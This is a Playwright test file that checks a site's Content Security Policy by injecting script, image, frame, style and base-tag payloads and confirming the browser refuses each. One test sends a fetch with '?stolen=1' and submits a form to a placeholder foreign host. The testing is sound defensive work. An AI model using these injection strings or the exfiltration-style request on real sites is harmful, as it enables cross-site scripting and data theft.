import { expect, type Page, test } from '@playwright/test';
import { visitAsReader, visit, startApplication } from '../support/visit';

type Attacked = Window & { ran?: string[]; refused?: string[] };

const FOREIGN = 'https://elsewhere.example';

/** Records what the browser refuses from now on, and what runs although it must not. */
const watch = (page: Page) =>
  page.addInitScript(() => {
    const attacked = window as Attacked;
    Object.assign(attacked, { ran: [], refused: [] });
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
      attacked.refused?.push(`${effectiveDirective} ${blockedURI}`);
    });
  });
const ran = (page: Page) => page.evaluate(() => (window as Attacked).ran);
const refused = (page: Page) => page.evaluate(() => (window as Attacked).refused);

/** Attempts to inject content, each with the directive that refuses it. */
const ATTACKS = [
  ['<script>ran.push("script")</script>', 'script-src-elem inline'],
  [`<script src="${FOREIGN}/x.js"></script>`, `script-src-elem ${FOREIGN}/x.js`],
  ['<script src="data:text/javascript,ran.push(1)"></script>', 'script-src-elem data'],
  ['<img src="/nothing.png" onerror="ran.push(\'handler\')">', 'script-src-attr inline'],
  [`<img src="${FOREIGN}/pixel.gif" alt="">`, `img-src ${FOREIGN}/pixel.gif`],
  [`<iframe src="${FOREIGN}/frame/"></iframe>`, `frame-src ${FOREIGN}`],
  [`<link rel="stylesheet" href="${FOREIGN}/x.css">`, `style-src-elem ${FOREIGN}/x.css`],
  ['<style>body { display: none }</style>', 'style-src-elem inline'],
  [`<base href="${FOREIGN}/">`, `base-uri ${FOREIGN}/`],
] as const;

for (const [code, rule] of ATTACKS) {
  test(`a page with injected ${code} is unchanged`, async ({ page }) => {
    await watch(page);
    const left: string[] = [];
    await page.route(`${FOREIGN}/**`, (route) => {
      left.push(route.request().url());
      return route.fulfill({ body: '' });
    });
    await page.route('**/blog/', async (route) => {
      const answer = await route.fetch();
      const html = (await answer.text()).replace('<body>', `<body>${code}`);
      await route.fulfill({ response: answer, body: html });
    });
    await page.goto('/blog/');
    await expect.poll(() => refused(page)).toContain(rule);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    expect(await ran(page)).toEqual([]);
    expect(left).toEqual([]);
  });
}

test('a script of the site cannot be made to run or send anything either', async ({ page }) => {
  await watch(page);
  await visitAsReader(page, '/sl/');
  await startApplication(page);
  await page.evaluate((foreign) => {
    const main = document.querySelector('main')!;
    main.insertAdjacentHTML(
      'beforeend',
      '<a id="trap" href="javascript:ran.push(1)">x</a><b onclick="ran.push(2)">y</b>',
    );
    main.insertAdjacentHTML('beforeend', `<form id="leak" action="${foreign}/"><button>x</button></form>`);
    document.querySelector<HTMLElement>('#trap')!.click();
    document.querySelector<HTMLElement>('main b[onclick]')!.click();
    document.querySelector<HTMLFormElement>('#leak')!.submit();
    void fetch(`${foreign}/?stolen=1`).catch(() => undefined);
  }, FOREIGN);
  await expect
    .poll(() => refused(page))
    .toEqual(
      expect.arrayContaining([
        'script-src-elem inline',
        'script-src-attr inline',
        `form-action ${FOREIGN}/?`,
        `connect-src ${FOREIGN}/?stolen=1`,
      ]),
    );
  expect(await ran(page)).toEqual([]);
  expect(new URL(page.url()).pathname).toBe('/sl/');
});

for (const path of ['/', '/sl/blog/', '/no-such-page/']) {
  test(`no file of the site is refused on ${path}, however late it loads`, async ({ page }) => {
    await watch(page);
    await page.goto(path);
    // Inserted one second after load, and removed by the application.
    const rules = page.locator('script[type="speculationrules"]');
    await rules.waitFor({ state: 'attached' });
    expect(await refused(page)).toEqual([]);
    await startApplication(page);
    await page.waitForLoadState('networkidle');
    expect(await refused(page)).toEqual([]);
  });
}

for (const [path, status] of [
  ['/', 200],
  ['/sl/', 200],
  ['/blog/when-not-to-use-ai/', 200],
  ['/no-such-page/', 404],
] as const) {
  test(`${path} lists its own code, and forbids framing and reading by others`, async ({ request }) => {
    const answer = await request.get(path);
    expect(answer.status()).toBe(status);
    const policy = answer.headers()['content-security-policy'] ?? '';
    expect(policy).toMatch(/script-src 'self'( 'sha256-[\w+/]{43}=')+;/);
    expect(policy).toMatch(/style-src 'self' 'sha256-[\w+/]{43}=';/);
    expect(policy).not.toMatch(/unsafe-eval|https?:|\*/);
    expect(policy).toContain("frame-ancestors 'self'");
    expect(answer.headers()['cross-origin-resource-policy']).toBe('same-origin');
  });
}

test('an SVG is shown, and runs no scripts when opened directly', async ({ page }) => {
  const answer = await page.goto('/contours.svg');
  expect(answer?.headers()['content-security-policy']).toMatch(/^default-src 'none'; .*; sandbox$/);
  await visit(page, '/');
  expect(await page.evaluate(() => fetch('/contours.svg').then(({ ok }) => ok))).toBe(true);
});
